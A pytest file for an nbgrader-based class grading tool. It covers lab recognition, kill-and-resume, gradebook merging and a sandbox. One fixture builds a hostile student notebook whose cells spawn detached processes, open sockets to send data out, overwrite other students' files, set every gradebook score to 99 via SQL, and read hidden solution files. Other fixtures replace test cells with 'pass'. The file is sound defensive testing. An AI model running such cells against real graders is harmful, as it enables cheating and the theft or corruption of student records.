"""Grading a whole class (tools.grade_class): layouts, lab recognition, resume, gradebook, security.

Fast tests cover the logic that needs no kernel. The slow ones grade for real: a class of good,
broken and hostile submissions of Lab 3.1.6 in one run; a tiny two-exercise course for the
kill-and-resume test and the Dask LocalCluster test (a kernel start each, no model).
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

from tools import grade_class as gc
from tools.self_check import check
from tools.grading.course import Course, recognise
from tools.grading.discovery import discover
from tools.grading.engine import STATUSES, template
from tools.grading.integrity import edited_cells
from tools.grading.output import Output
from tools.grading.plan import Rules, content_hash, plan
from tools.grading.report import cell_losses, write_summary
from tools.grading.sandbox import Limits
from tools.paths import LABS, REPO, SOLUTIONS, venv_on_path

LAB = "lab-3.1.6-dataset-preparation"  # the smallest lab to grade (~13 s of CPU under the grade profile)


def read(path: Path) -> dict:
    return nbformat.read(path, as_version=4)


def write(nb: dict, path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, path)
    return path


def cell_index(nb: dict, grade_id: str) -> int:
    return next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def gradebook_rows(out: Path) -> list[tuple]:
    """Everything the gradebook records about scores, in a comparable form."""
    from nbgrader.api import Gradebook

    rows = []
    with Gradebook(f"sqlite:///{out / 'course' / 'gradebook.db'}", "module-3.1") as gb:
        for assignment in gb.assignments:
            for sub in assignment.submissions:
                for nb in sub.notebooks:
                    for g in nb.grades:
                        rows.append((sub.student.id, assignment.name, g.name, g.auto_score, g.manual_score, g.max_score))
    return sorted(rows)


def csv_rows(out: Path) -> list[dict]:
    with open(out / "grades.csv") as f:
        return list(csv.DictReader(f))


# --- fast: no kernel ------------------------------------------------------------------------

COURSE = Course()


def graded(lab: str = LAB) -> list[tuple[str, float]]:
    """(grade_id, points) of the lab's autograded cells."""
    return [(gid, pts) for gid, pts, manual in COURSE.graded_cells(lab) if not manual]


def plans_for(folder: Path, rules: Rules = Rules()) -> list:
    return plan(discover(folder, COURSE.resolve_lab), COURSE, rules)


def test_lab_is_recognised_from_cells_not_file_name():
    sigs = COURSE.signatures
    assert LAB in sigs
    for lab in sigs:
        release = json.loads((LABS / f"{lab}.ipynb").read_text())
        assert recognise(release, sigs) == (lab, "nbgrader grade ids")
        stripped = json.loads(json.dumps(release))
        for cell in stripped["cells"]:
            cell["metadata"] = {}  # a platform that drops cell metadata
        assert recognise(stripped, sigs) == (lab, "text of the release's cells")
    other = new_notebook(cells=[new_markdown_cell("# My own notes"), new_code_cell("print(1)")])
    assert recognise(other, sigs) == (None, "")


def test_tampering_names_edited_and_deleted_test_cells():
    sig = COURSE.signatures[LAB]
    nb = read(LABS / f"{LAB}.ipynb")
    assert edited_cells(nb, sig) == []
    assert edited_cells(read(SOLUTIONS / f"{LAB}.ipynb"), sig) == []  # hidden tests are not edits
    nb.cells[cell_index(nb, "test_to_messages")].source = "pass"
    del nb.cells[cell_index(nb, "test_validate_records")]
    assert edited_cells(nb, sig) == ["cell test_to_messages edited (graded with the release's version)",
                                     "cell test_validate_records deleted (nbgrader put it back)"]


def test_plan_gives_broken_files_a_score_and_a_reason(tmp_path):
    (tmp_path / "empty_lab.ipynb").write_text("")
    (tmp_path / "corrupt_lab.ipynb").write_text('{"cells": [')
    (tmp_path / "binary_lab.ipynb").write_bytes(b"\xff\xfe\x00garbage")
    write(new_notebook(cells=[new_code_cell("print(1)")]), tmp_path / "stranger_notes.ipynb")
    (tmp_path / "frank" / LAB).mkdir(parents=True)
    plans = {p.student: p for p in plans_for(tmp_path)}
    assert {s: (p.result["status"], p.result["score"]) for s, p in plans.items()} == {
        "empty": ("invalid", 0.0), "corrupt": ("invalid", 0.0), "binary": ("invalid", 0.0),
        "stranger": ("unrecognised", 0.0), "frank": ("missing", 0.0)}
    assert "empty file" in plans["empty"].result["reason"]
    assert "not a valid notebook" in plans["corrupt"].result["reason"]
    assert plans["frank"].result["max_score"] == sum(p for _, p, _ in COURSE.graded_cells(LAB)) > 0
    assert all(p.notebook is None for p in plans.values())


def test_same_lab_twice_is_graded_once_and_reported(tmp_path):
    release = read(LABS / f"{LAB}.ipynb")
    write(release, tmp_path / "alice_first.ipynb")
    write(release, tmp_path / "alice_second.ipynb")
    plans = plans_for(tmp_path)
    assert len(plans) == 1 and plans[0].file == "alice_second.ipynb"
    assert any("also submitted alice_first.ipynb" in n for n in plans[0].notes)
    assert any("two submissions" in r for r in plans[0].review)


def test_hash_changes_with_the_submission_and_the_grader():
    a = content_hash(b"x", LAB, COURSE, Rules())
    assert a == content_hash(b"x", LAB, COURSE, Rules())
    assert a != content_hash(b"y", LAB, COURSE, Rules())
    assert a != content_hash(b"x", LAB, COURSE, Rules(Limits(cell_timeout=7)))
    assert a != content_hash(b"x", LAB, COURSE, Rules(due=((None, "2026-12-01T00:00:00+00:00"),)))


def _result(student, score, lab=LAB, status="ok", sha="s1"):
    cells = [{"grade_id": gid, "score": min(score, pts), "max_score": pts, "needs_manual_grade": False}
             for gid, pts in graded(lab)]
    return {"student": student, "lab": lab, "file": f"{student}.ipynb", "sha": sha, "status": status, "reason": "",
            "score": sum(c["score"] for c in cells), "max_score": sum(c["max_score"] for c in cells), "cells": cells}


def test_gradebook_and_csv_merge_never_duplicate_or_lose(tmp_path):
    out = Output(tmp_path, COURSE)
    out.prepare([LAB], {})
    out.record(_result("alice", 3), None)
    out.record(_result("bob", 0, status="errors"), None)
    out.record(_result("alice", 1, sha="s2"), None)  # a changed submission replaces the old grade
    out.apply(list(out.load_results().values()))  # re-applying changes nothing
    rows = [r for r in gradebook_rows(tmp_path) if r[2] in dict(graded())]  # autograded cells (written answers: by hand)
    assert len(rows) == 2 * len(graded())
    assert {r[0] for r in rows} == {"alice", "bob"}
    assert sum(r[3] for r in rows if r[0] == "alice") == 1 * len(graded())
    results = sorted(out.load_results().values(), key=lambda r: r["student"])
    out.write_csv(results)
    write_summary(tmp_path, results, "test")
    table = csv_rows(tmp_path)
    assert [(r["student"], r["score"], r["status"]) for r in table] == [("alice", "4", "ok"), ("bob", "0", "errors")]
    cells = list(csv.DictReader(open(tmp_path / "cells.csv")))
    assert {c["grade_id"] for c in cells} == {gid for gid, _ in graded()}
    assert all(c["students"] == "2" for c in cells)
    assert (tmp_path / "score-distribution.png").stat().st_size > 1000
    assert "What the class did not get" in (tmp_path / "summary.md").read_text()


def test_cell_losses_counts_share_of_students():
    rows = [_result("a", 3), _result("b", 0), _result("c", 99)]
    losses = {c["grade_id"]: c for c in cell_losses(rows)}
    first = graded()[0][0]
    assert losses[first]["students"] == 3
    assert losses[first]["lost_share"] == "0.33"  # only b lost the 3-point first cell


def test_rerun_grades_only_new_or_changed(tmp_path):
    """Resume logic on submissions that need no kernel: unchanged results are not rewritten."""
    subs, out = tmp_path / "subs", tmp_path / "out"
    (subs / "frank" / LAB).mkdir(parents=True)
    (subs / "empty_x.ipynb").parent.mkdir(exist_ok=True)
    (subs / "empty_x.ipynb").write_text("")
    gc.grade_class(subs, out, quiet=True)
    first = {p: p.stat().st_mtime_ns for p in (out / "results").rglob("*.json")}
    assert len(first) == 2
    gc.grade_class(subs, out, quiet=True)
    assert {p: p.stat().st_mtime_ns for p in (out / "results").rglob("*.json")} == first
    (subs / "empty_x.ipynb").write_text("{}")
    gc.grade_class(subs, out, quiet=True)
    table = csv_rows(out)
    assert len(table) == 2
    assert next(r for r in table if r["student"] == "empty")["reason"].startswith("empty_x.ipynb: not a valid notebook")
    assert len(gradebook_rows(out)) == len(COURSE.graded_cells(LAB))  # frank's zeros, once


# --- slow: a tiny course, graded for real (kill-and-resume, Dask) --------------------------

TINY = "lab-0.0.1-tiny"


def _tiny_course(root: Path) -> Path:
    """A two-exercise nbgrader lab with a hidden test; its release generated by nbgrader."""
    meta = lambda **kw: {"nbgrader": {"schema_version": 3, "locked": False, "solution": False, "grade": False, **kw}}
    source = new_notebook(cells=[
        new_code_cell("import math", metadata=meta(grade_id="setup", locked=True)),
        new_code_cell("def add(a, b):\n    ### BEGIN SOLUTION\n    return a + b\n    ### END SOLUTION",
                      metadata=meta(grade_id="add", solution=True)),
        new_code_cell("assert add(1, 2) == 3\n### BEGIN HIDDEN TESTS\nassert add(-1, 1) == 0\n### END HIDDEN TESTS",
                      metadata=meta(grade_id="test_add", grade=True, locked=True, points=2)),
        new_code_cell("def root(x):\n    ### BEGIN SOLUTION\n    return math.sqrt(x)\n    ### END SOLUTION",
                      metadata=meta(grade_id="root", solution=True)),
        new_code_cell("assert root(9) == 3", metadata=meta(grade_id="test_root", grade=True, locked=True, points=1)),
    ], metadata={"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}})
    write(source, root / "solutions" / f"{TINY}.ipynb")
    release = template(str(root.resolve()), TINY, True) / "release" / TINY / f"{TINY}.ipynb"
    (root / "labs").mkdir()
    (root / "labs" / f"{TINY}.ipynb").write_bytes(release.read_bytes())
    return root


DUE = "2026-12-01T12:00:00+00:00"
TIMES = {"half": "2026-12-01 11:00:00.000000 UTC", "hidden": "2026-12-01 13:30:00.000000 UTC",
         "late": "2026-12-02 12:00:00.000000 UTC"}  # nbgrader's timestamp.txt format; due noon UTC


def _tiny_class(course: Path, folder: Path) -> Path:
    """Half the class in nbgrader's tree with timestamp.txt, half as a Canvas export (one marked late by Canvas)."""
    release = read(course / "labs" / f"{TINY}.ipynb")
    answers = {"good": ("return a + b", "return math.sqrt(x)"), "half": ("return a + b", "raise NotImplementedError()"),
               "wrong": ("return a - b", "return x"), "hidden": ("return abs(a) + b", "return math.sqrt(x)"),
               "none": ("raise NotImplementedError()", "raise NotImplementedError()"),
               "late": ("return b + a", "return x ** 0.5")}
    for i, (student, (add, root)) in enumerate(answers.items()):
        nb = nbformat.from_dict(json.loads(json.dumps(release)))
        nb.cells[cell_index(nb, "add")].source = f"def add(a, b):\n    {add}"
        nb.cells[cell_index(nb, "root")].source = f"def root(x):\n    {root}"
        if i % 2:
            write(nb, folder / student / TINY / f"{TINY}.ipynb")
            (folder / student / TINY / "timestamp.txt").write_text(TIMES[student])
        else:
            write(nb, folder / f"{student}{'_late' if student == 'none' else ''}_1234{i}_5678{i}_upload.ipynb")
    return folder


@pytest.fixture(scope="module")
def tiny(tmp_path_factory):
    """The tiny course, its class, and the output of one uninterrupted local run."""
    root = tmp_path_factory.mktemp("tiny")
    course = _tiny_course(root / "course")
    subs = _tiny_class(course, root / "subs")
    out = root / "reference"
    results = gc.grade_class(subs, out, Course(course), Rules(Limits(cell_timeout=60), due=((None, DUE),)), workers=2, quiet=True)
    scores = {r["student"]: r["score"] for r in results.values()}
    assert scores == {"good": 3, "half": 2, "wrong": 0, "hidden": 1, "none": 0, "late": 3}, scores
    # late work: minutes from nbgrader's timestamp.txt against --due, Canvas's own late mark; reported, not penalised
    late = {r["student"]: (r["late"], r["minutes_late"]) for r in csv_rows(out)}
    assert late == {"good": ("", ""), "half": ("", "0"), "wrong": ("", ""), "hidden": ("yes", "90"), "none": ("yes", ""),
                    "late": ("yes", "1440")}, late
    assert "hidden / lab-0.0.1-tiny: 90 minutes late" in (out / "summary.md").read_text()
    return course, subs, out


@pytest.mark.slow
def test_killed_mid_run_then_rerun_equals_one_run(tiny, tmp_path):
    course, subs, reference = tiny
    out = tmp_path / "out"
    cmd = [sys.executable, "-m", "tools.grade_class", str(subs), "--out", str(out), "--course", str(course),
           "--workers", "2", "--timeout", "60", "--due", DUE, "--quiet"]
    proc = subprocess.Popen(cmd, cwd=REPO, start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    deadline = time.time() + 120
    while time.time() < deadline and len(list((out / "results").rglob("*.json"))) < 2 and proc.poll() is None:
        time.sleep(0.05)
    assert proc.poll() is None, f"finished before it could be killed: {proc.stderr.read().decode()[-2000:]}"
    os.killpg(proc.pid, signal.SIGKILL)  # the coordinator and its pool, mid-run
    proc.wait()
    graded_before = len(list((out / "results").rglob("*.json")))
    assert 2 <= graded_before < 6
    assert not (out / "grades.csv").exists()
    done = subprocess.run(cmd, cwd=REPO, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr[-3000:]
    assert (out / "grades.csv").read_text() == (reference / "grades.csv").read_text()
    assert gradebook_rows(out) == gradebook_rows(reference)


@pytest.mark.slow
def test_dask_localcluster_gives_the_same_gradebook(tiny, tmp_path):
    from distributed import LocalCluster

    course, subs, reference = tiny
    archive = shutil.make_archive(str(tmp_path / "class-export"), "zip", subs)  # the class as a platform's .zip
    with LocalCluster(n_workers=2, threads_per_worker=1, processes=True, dashboard_address=None) as cluster:
        gc.grade_class(Path(archive), tmp_path / "out", Course(course), Rules(Limits(cell_timeout=60), due=((None, DUE),)),
                       scheduler=cluster.scheduler_address, quiet=True)
    tmp_path = tmp_path / "out"
    assert gradebook_rows(tmp_path) == gradebook_rows(reference)
    assert (tmp_path / "grades.csv").read_text() == (reference / "grades.csv").read_text()
    assert (tmp_path / "course" / "feedback" / "good" / TINY / f"{TINY}.html").exists()


@pytest.mark.slow
def test_bench_times_alone_and_together_and_projects(tiny, tmp_path):
    """The benchmark grades the solution alone and two at once, and projects with the pool full."""
    course = tiny[0]
    bench = subprocess.run([sys.executable, "-m", "tools.grade_class", "--bench", "--course", str(course), "--labs", TINY,
                            "--workers", "2", "--machines", "3", "--timeout", "60"],
                           cwd=REPO, capture_output=True, text=True, timeout=300)
    assert bench.returncode == 0, bench.stderr[-3000:]
    row = re.search(rf"{TINY}\s+alone\s+([\d.]+) s\s+2 at once\s+([\d.]+) s \(\s*([\d.]+) s each\)\s+class of 30:\s+([\d.]+) min"
                    r"\s+300:\s+([\d.]+) min\s+300 on 3 such machines:\s+([\d.]+) min(.*)", bench.stdout)
    assert row, bench.stdout
    alone, together, each, c30, c300, cluster = map(float, row.groups()[:6])
    assert "NOT full marks" not in row.group(7)  # the solution earned every point in each run
    assert 0 < alone < 120 and 0 < together < 240
    # seconds per submission with both workers busy; every number is printed to 0.1, so allow a
    # half-unit of rounding on each side, scaled by the factor it is multiplied with
    assert each == pytest.approx(together / 2, abs=0.05 / 2 + 0.05 + 1e-9)
    for printed, factor in ((c30, 30 / 60), (c300, 300 / 60), (cluster, 300 / 3 / 60)):
        assert printed == pytest.approx(factor * each, abs=factor * 0.05 + 0.05 + 1e-9)
    assert "all 1 labs" in bench.stdout


# --- slow: good, broken and hostile submissions of Lab 3.1.6, one run ----------------------


def _hidden_line() -> str:
    """A line of Lab 3.1.6's hidden tests that appears nowhere in the student release."""
    release = (LABS / f"{LAB}.ipynb").read_text()
    for cell in read(SOLUTIONS / f"{LAB}.ipynb").cells:
        for block in re.findall(r"### BEGIN HIDDEN TESTS\n(.*?)### END HIDDEN TESTS", cell.source, re.S):
            for line in block.splitlines():
                if len(line.strip()) > 25 and json.dumps(line.strip())[1:-1] not in release:
                    return line.strip()
    raise AssertionError("Lab 3.1.6 has no hidden test line to look for")


def _with_cell(nb: dict, code: str, after: str = "setup") -> dict:
    nb = json.loads(json.dumps(nb))
    nb = nbformat.from_dict(nb)
    nb.cells.insert(cell_index(nb, after) + 1, new_code_cell(code))
    return nb


def _hostile_class(folder: Path, out: Path, port: int) -> dict[str, Path]:
    """The class: two good notebooks, each kind of broken one, and one that attacks the grader.

    To keep the run short, kinds that can share a notebook do (each in its own cell, each
    named in the reason column); most are built on the release, whose later cells fail fast.
    """
    solution, release = read(SOLUTIONS / f"{LAB}.ipynb"), read(LABS / f"{LAB}.ipynb")
    copy = lambda nb: nbformat.from_dict(json.loads(json.dumps(nb)))
    partial = copy(release)
    partial.cells[cell_index(partial, "to_messages")] = solution.cells[cell_index(solution, "to_messages")]
    nbdir = lambda s: folder / s / LAB / f"{LAB}.ipynb"
    files = {"good": write(solution, nbdir("good")), "partial": write(partial, folder / "partial_lab6.ipynb")}
    broken = copy(release)
    broken.cells[cell_index(broken, "to_messages")].source = "def to_messages(record:\n    return"
    files["broken"] = write(_with_cell(broken, "raise RuntimeError('the student code blew up')", "validate_records"), nbdir("broken"))
    endless = _with_cell(release, "while True:\n    print('x' * 1_000_000)")
    files["endless"] = write(_with_cell(endless, "while True:\n    pass"), nbdir("endless"))
    files["hog"] = write(_with_cell(release, (
        "def hog():\n    blobs = []\n    while True:\n        blobs.append(bytearray(256 * 2**20))\nhog()")), nbdir("hog"))
    tampered = copy(release)
    tampered.cells[cell_index(tampered, "test_to_messages")].source = "pass  # full marks, please"
    del tampered.cells[cell_index(tampered, "test_validate_records")]
    files["tamper"] = write(tampered, nbdir("tamper"))
    files["renamed"] = write(partial, folder / "renamed" / LAB / "my-lab.ipynb")
    files["untouched"] = write(release, nbdir("untouched"))
    # an added cell that replaces a checker the graded cell calls (render_ids, defined by the release's own cells)
    files["redefiner"] = write(_with_cell(solution, "def render_ids(conv):\n    return mask_prompt_labels(conv, tokenizer)['input_ids']",
                                          "trl_reference"), nbdir("redefiner"))
    (folder / "missing" / LAB).mkdir(parents=True)
    (folder / "corrupt_lab.ipynb").write_text('{"cells": [{"cell_type": "code", "sour')
    (folder / "empty_lab.ipynb").write_text("")
    hostile = release
    for code in [  # inserted in reverse: this list is the order they run in
        ("import subprocess\n"
         "subprocess.Popen(['sleep', '4242'], start_new_session=True)\n"
         "subprocess.Popen('nohup sleep 4243 >/dev/null 2>&1 &', shell=True)"),
        f"import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=5).sendall(b'leak')",
        "import socket\nsocket.create_connection(('192.0.2.1', 80), timeout=5)",  # TEST-NET-1: any address off the machine
        ("import sqlite3\n"
         f"for path in [{str(nbdir('good'))!r}, {str(out / 'grades.csv')!r}]:\n"
         "    try:\n        open(path, 'w').write('overwritten by a student')\n    except OSError as err:\n        print('blocked', err)\n"
         f"sqlite3.connect({str(out / 'course' / 'gradebook.db')!r}).execute('update grade set auto_score = 99').connection.commit()"),
        ("import glob\n"
         f"for path in glob.glob('../../../source/*/*.ipynb') + glob.glob('/tmp/grade-class-*/*/gradebook.db') + glob.glob({str(out)!r} + '/**', recursive=True):\n"
         "    try:\n        print(open(path, errors='replace').read())\n    except OSError as err:\n        print('blocked', err)\n"
         f"print(open({str(SOLUTIONS / f'{LAB}.ipynb')!r}).read())"),
    ][::-1]:
        hostile = _with_cell(hostile, code)
    files["hostile"] = write(hostile, nbdir("hostile"))
    return files


def _processes(pattern: str) -> list[int]:
    found = []
    for proc in Path("/proc").iterdir():
        try:
            if proc.name.isdigit() and pattern in (proc / "cmdline").read_bytes().replace(b"\0", b" ").decode():
                found.append(int(proc.name))
        except OSError:
            continue
    return found


@pytest.mark.slow
def test_bad_and_hostile_submissions_in_one_run(tmp_path):
    subs, out = tmp_path / "subs", tmp_path / "out"
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    listener.settimeout(0.5)
    connections = []
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                connections.append(listener.accept()[0].recv(16))
            except OSError:
                continue

    threading.Thread(target=accept, daemon=True).start()
    files = _hostile_class(subs, out, listener.getsockname()[1])
    before = {name: hashlib.sha256(path.read_bytes()).hexdigest() for name, path in files.items()}
    limits = Limits(cell_timeout=20, memory_mb=4096, output_bytes=200_000)
    started = time.perf_counter()
    try:
        results = gc.grade_class(subs, out, COURSE, Rules(limits), workers=2, quiet=True)
    finally:
        stop.set()
    seconds = time.perf_counter() - started
    rows = {r["student"]: r for r in csv_rows(out)}
    print(f"graded {len(rows)} submissions in {seconds:.0f} s")
    for r in rows.values():
        print(f"{r['student']:<10} {r['score']:>3}/{r['max_score']:<3} {r['status']:<12} {r['reason'][:300]}")
    full = f"{sum(p for _, p in graded()):g}"  # autograded points
    total = f"{sum(p for _, p, _ in COURSE.graded_cells(LAB)):g}"  # with the written answers
    assert set(rows) == {"good", "partial", "broken", "endless", "hog", "tamper", "renamed", "missing", "corrupt",
                         "empty", "hostile", "untouched", "redefiner"}
    assert {r["max_score"] for name, r in rows.items() if name not in ("corrupt", "empty")} == {total}  # flat, no lab: 0
    assert all(r["status"] in STATUSES and r["reason"] for name, r in rows.items() if name != "good")
    assert (rows["good"]["score"], rows["good"]["status"], rows["good"]["reason"]) == (full, "ok", "")  # = alone (test_autograde)
    assert rows["broken"]["score"] == "0"
    assert "cell to_messages: SyntaxError" in rows["broken"]["reason"]
    assert "RuntimeError: the student code blew up" in rows["broken"]["reason"]
    assert "CellTimeoutError" in rows["endless"]["reason"] or "KeyboardInterrupt" in rows["endless"]["reason"]
    assert "output limit reached" in rows["endless"]["reason"]
    autograded = out / "course" / "autograded" / "endless" / LAB / f"{LAB}.ipynb"
    assert autograded.stat().st_size < 2_000_000
    assert "MemoryError" in rows["hog"]["reason"]
    assert rows["tamper"]["score"] == "0"  # the edited test was restored, so pass-only earned nothing
    assert "test_to_messages edited" in rows["tamper"]["reason"] and "test_validate_records deleted" in rows["tamper"]["reason"]
    assert rows["renamed"]["score"] == rows["partial"]["score"] == "3"
    assert "my-lab.ipynb" in rows["renamed"]["reason"]
    assert (rows["missing"]["status"], rows["corrupt"]["status"], rows["empty"]["status"]) == ("missing", "invalid", "invalid")
    # the hostile one: nothing leaked, nothing written, nobody reached, nothing left running
    reason = rows["hostile"]["reason"]
    assert rows["hostile"]["score"] == "0"
    assert re.search(r"(FileNotFound|Permission)Error: .*solutions", reason)
    assert "OperationalError: unable to open database file" in reason
    # the kernel's loopback is its own (up, for Lab 3.1.10's server): the grader's port is not on it; nothing else is
    assert "ConnectionRefusedError" in reason and "Network is unreachable" in reason
    assert connections == []
    assert _processes("sleep 4242") == [] and _processes("sleep 4243") == []
    hidden = _hidden_line()
    autograded = read(out / "course" / "autograded" / "hostile" / LAB / f"{LAB}.ipynb")
    assert hidden not in json.dumps([c.get("outputs", []) for c in autograded.cells])
    for student in rows:
        feedback = out / "course" / "feedback" / student / LAB / f"{LAB}.html"
        if feedback.exists():
            assert hidden not in feedback.read_text(), f"{student}'s feedback shows a hidden test"
    assert {name: hashlib.sha256(path.read_bytes()).hexdigest() for name, path in files.items()} == before
    book = gradebook_rows(out)
    assert all(r[3] is None or r[3] <= r[5] for r in book)
    assert {r["student"] for r in results.values()} == set(rows)
    assert sum(r[3] or 0 for r in book if r[0] == "good") == float(full)
    # tampering is surfaced for review: the redefined checker, the edited test cells are in the reason
    assert "redefines render_ids" in rows["redefiner"]["review"] and not rows["good"]["review"]
    summary = (out / "summary.md").read_text()
    assert "To review" in summary and "redefiner" in summary.split("## Scores")[0]
    assert "Written answers to grade by hand" in summary
    # one engine: the self-check (make grade-lab: hidden tests, every core) gives each cell the class grader's score
    for name in ("good", "untouched", "partial", "tamper", "redefiner"):
        mine = check(COURSE, LAB, files[name], Limits(cell_timeout=limits.cell_timeout, memory_mb=limits.memory_mb, threads=2), hidden=True)
        theirs = {c["grade_id"]: None if c["manual"] else c["score"] for c in results[f"{name}/{LAB}"]["cells"]}
        assert mine.scores() == theirs, f"{name}: self-check {mine.scores()} != class grader {theirs}"
    # the handed-over course root is safe with nbgrader's own CLI: regenerated feedback shows no hidden test
    bin_dir = Path(sys.executable).parent
    regenerated = subprocess.run([str(bin_dir / "nbgrader"), "generate_feedback", LAB, "--force"], cwd=out / "course",
                                 capture_output=True, text=True, timeout=600,
                                 env=venv_on_path(dict(os.environ)))
    assert regenerated.returncode == 0, regenerated.stderr[-3000:]
    html = list((out / "course" / "feedback").rglob("*.html"))
    assert len(html) >= 5
    for page in html:
        assert hidden not in page.read_text(), f"{page} shows a hidden test"
    # a good one gets exactly the score it gets when graded alone
    alone = tmp_path / "alone"
    write(read(files["partial"]), alone / "partial_lab6.ipynb")
    alone_rows = {r["student"]: r for r in csv_rows(_grade(alone, tmp_path / "alone-out", limits))}
    assert alone_rows["partial"]["score"] == rows["partial"]["score"]


def _grade(subs: Path, out: Path, limits: Limits) -> Path:
    gc.grade_class(subs, out, COURSE, Rules(limits), workers=1, quiet=True)
    return out
